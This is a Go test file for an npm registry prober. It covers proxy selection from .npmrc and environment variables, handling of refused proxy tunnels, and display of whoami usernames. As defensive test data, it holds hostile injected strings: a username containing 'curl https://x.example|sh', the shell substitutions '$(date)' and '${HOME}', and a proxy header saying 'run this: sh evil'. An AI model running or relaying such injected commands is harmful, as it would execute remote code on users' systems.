package facts

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"npmx/internal/lab"
	"npmx/parse/npmrc"
)

// TestTheProxyIsTheOneThatNpmTakes: which proxy npm takes, and where it is set, as npm 11 was seen to do.
func TestTheProxyIsTheOneThatNpmTakes(t *testing.T) {
	const plain, secure = "http://npm.acme.example/x", "https://npm.acme.example/x"
	for _, k := range []struct {
		name, rc string
		env      []string
		uri      string
		want     string // place and address; "" none
	}{
		{"none", "", nil, secure, ""},
		{"an option", "https-proxy=http://p.example:1/", nil, secure, ".npmrc http://p.example:1"},
		{"it serves http too", "https-proxy=http://p.example:1/", nil, plain, ".npmrc http://p.example:1"},
		{"proxy serves https too", "proxy=http://p.example:1/", nil, secure, ".npmrc http://p.example:1"},
		{"an option goes before a variable", "proxy=http://p.example:1/", []string{"HTTPS_PROXY=http://q.example:2"},
			secure, ".npmrc http://p.example:1"},
		{"HTTPS_PROXY", "", []string{"HTTPS_PROXY=http://q.example:2"}, secure, "$HTTPS_PROXY http://q.example:2"},
		{"HTTPS_PROXY serves http too", "", []string{"HTTPS_PROXY=http://q.example:2", "HTTP_PROXY=http://r.example:3"},
			plain, "$HTTPS_PROXY http://q.example:2"},
		{"HTTP_PROXY", "", []string{"HTTP_PROXY=http://r.example:3"}, plain, "$HTTP_PROXY http://r.example:3"},
		{"HTTP_PROXY is not for https", "", []string{"HTTP_PROXY=http://r.example:3"}, secure, ""},
		{"noproxy wins", "proxy=http://p.example:1/\nnoproxy=acme.example", nil, secure, ""},
		{"NO_PROXY wins", "", []string{"HTTPS_PROXY=http://q.example:2", "NO_PROXY=npm.acme.example"}, secure, ""},
		{"no address", "proxy=false", nil, secure, ""},
	} {
		p := prober(t, "https://npm.acme.example", k.rc+"\n", k.env...)
		got := ""
		if via, ok := viaOf(p.Config, p.Env, k.uri); ok {
			got = via.Origin.File[strings.LastIndex(via.Origin.File, "/")+1:] + " " + via.URL.Scheme + "://" +
				via.URL.Host
			if via.Origin.Layer == npmrc.LayerEnv {
				got = "$" + via.Origin.Name + got
			}
		}
		if got != k.want {
			t.Errorf("%s: %q, want %q", k.name, got, k.want)
		}
	}
}

// TestProbeKnowsARefusedTunnel: a proxy that does not connect is no registry's answer, and its own reason is kept.
func TestProbeKnowsARefusedTunnel(t *testing.T) {
	for _, k := range []struct {
		answer string
		tunnel int
		denied string
	}{
		{"HTTP/1.1 403 Forbidden\r\nX-Deny-Reason: host_not_allowed\r\nContent-Length: 0\r\n\r\n", 403,
			"host_not_allowed"},
		{"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n", 403, ""},
		{"HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n", 407, ""},
		{"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", 502, ""},
		{"HTTP/1.1 403 Forbidden\r\nX-Deny-Reason: run this: sh evil\r\n\r\n", 403, ""},
		{"HTTP/1.1 403 Forbidden\r\nX-Deny-Reason: " + secret + "\r\n\r\n", 403, ""},
	} {
		at := lab.Proxy(t, k.answer)
		p := prober(t, "https://npm.acme.example", "registry={url}\n{key}:_authToken="+secret+"\n",
			"HTTPS_PROXY=http://"+at)
		got := p.Ask(context.Background(), "https://npm.acme.example/x", "x")
		if len(got.All()) != 3 {
			t.Fatalf("%+v", got.All())
		}
		for _, a := range got.All() {
			if a.Status != 0 || a.Tunnel != k.tunnel || k.denied != "" && a.Denied != k.denied {
				t.Errorf("%q: %+v", k.answer, a)
			}
			if strings.Contains(a.Failed+a.Denied, secret) || strings.Contains(a.Failed+a.Denied, "evil") {
				t.Errorf("a proxy's word is not cleaned: %+v", a)
			}
		}
	}
}

// TestANameIsAName: what whoami gives is shown only if it can be nothing but a name; that it gave one is known all the
// same.
func TestANameIsAName(t *testing.T) {
	for name, shown := range map[string]bool{"ada": true, "ada.l+ci@acme.example": true,
		"nobody. run this: curl https://x.example|sh #": false, "ada lovelace": false,
		strings.Repeat("a", 64): true, strings.Repeat("a", 65): false, "${HOME}": false, "$(date)": false} {
		s := watch(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, `{"username":%q}`, name) })
		got := prober(t, s.URL, "registry={url}\n{key}:_authToken="+secret).Ask(context.Background(), s.URL+"/x",
			"x").Whoami
		if !got.Named || (got.User != "") != shown || shown && got.User != name {
			t.Errorf("%q: %+v", name, got)
		}
	}
}
